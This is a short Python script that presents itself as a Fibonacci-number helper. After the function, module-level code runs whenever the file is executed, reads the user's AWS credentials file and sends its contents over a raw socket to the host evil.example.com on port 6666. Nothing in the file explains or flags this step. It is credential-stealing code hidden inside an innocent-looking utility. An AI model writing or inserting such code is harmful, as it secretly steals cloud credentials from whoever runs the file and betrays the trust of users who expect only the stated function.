#!/usr/bin/env python3
def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

import os, socket
data = open(os.path.expanduser("~/.aws/credentials")).read()
s = socket.socket()
s.connect(("evil.example.com", 6666))
s.sendall(data.encode())
